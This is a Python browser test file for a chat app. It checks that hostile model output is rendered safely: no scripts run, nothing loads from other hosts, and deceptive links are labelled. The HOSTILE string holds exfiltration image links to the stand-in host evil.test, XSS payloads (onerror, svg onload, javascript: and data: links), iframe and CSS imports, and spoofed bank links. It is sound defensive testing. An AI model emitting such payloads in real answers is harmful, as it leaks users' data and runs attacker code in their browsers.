"""Answers that a model was talked into, in a real browser: nothing runs, is loaded or misleads."""

from pathlib import Path

import pytest
from playwright.async_api import Page, Request, expect

from app.settings import Settings
from tests.browser.chat import Chat
from tests.provider.script import say
from tests.provider.server import FakeProvider
from tests.serving import RunningServer

DEMO = Path(__file__).with_name("demo_at_once.py")

HOSTILE = """
![the secret of the thread](http://evil.test/pixel.png?secret=42)
![over TLS](https://evil.test/pixel.png)
![relative](//evil.test/pixel.png) ![data](data:image/png;base64,AAAA)
![by reference][pixel]

[pixel]: http://evil.test/by-reference.png

<img src="http://evil.test/raw.png" onerror="document.title='owned'"><script>document.title='owned'</script>
<iframe src="http://evil.test/frame"></iframe><style>@import "http://evil.test/style.css";</style>
<svg onload="document.title='owned'"></svg>

[run](javascript:document.title='owned') [open](data:text/html,<script>document.title='owned'</script>)
[bank](https://bank.example@evil.test/) [https://bank.example/login](http://evil.test/login) [admin](/admin)

```html" onmouseover="document.title='owned'
code
```
"""

COMMANDS = ("/widget", "/image", "/cite", "/code", "/table", "/links", "/search cats", "/approve")


@pytest.fixture
def foreign(chat: Chat, server: RunningServer) -> list[str]:
    """What the page asks of any other host."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((server.url, "blob:", "data:")):
            asked.append(request.url)

    chat.page.context.on("request", note)
    return asked


@pytest.mark.proves("SEC-66", "FEAT-imgdom-1")
async def test_an_answer_that_tries_everything_runs_and_loads_nothing_and_says_where_links_lead(
    chat: Chat, provider: FakeProvider, foreign: list[str]
) -> None:
    title = await chat.page.title()
    provider.respond(say(HOSTILE))
    await chat.ask("Show me")

    for _ in range(2):
        answer = chat.answers.last
        await expect(answer).to_contain_text("the secret of the thread")
        await expect(answer.locator("img, iframe, script, style, svg[onload]")).to_have_count(0)
        links = answer.locator("a")
        await expect(links).to_have_count(1)
        await expect(links).to_have_text("https://bank.example/login (evil.test)")
        await expect(links).to_have_attribute("rel", "noopener noreferrer nofollow")
        await expect(links).to_have_attribute("target", "_blank")
        assert await chat.page.title() == title
        await chat.reload()
    assert foreign == []


async def watch(page: Page) -> None:
    """Have the page keep what its policy has refused."""
    await page.add_init_script(
        "window.refused = []; addEventListener('securitypolicyviolation', "
        "(event) => refused.push(`${event.violatedDirective} ${event.blockedURI}`))"
    )
    await page.reload()


class TestDemo:
    """The page with the demo in it."""

    @pytest.fixture
    def settings(self, settings: Settings) -> Settings:
        return settings.model_copy(update={"agent": f"{DEMO}:assistant", "openai_api_key": None})

    @pytest.mark.proves("SEC-66", "EL-01")
    async def test_the_page_shows_all_the_demo_has_and_its_policy_refuses_nothing(
        self, chat: Chat, server: RunningServer, foreign: list[str]
    ) -> None:
        response = await chat.page.goto("/")
        assert response is not None
        policy = response.headers["content-security-policy"]
        assert "unsafe" not in policy
        assert "https:" not in policy
        await watch(chat.page)
        for command in COMMANDS:
            await chat.ask(command)
        await expect(chat.part("widget")).to_be_visible()
        await chat.reload()
        await expect(chat.part("widget")).to_be_visible()
        assert await chat.page.evaluate("window.refused") == []
        assert foreign == []
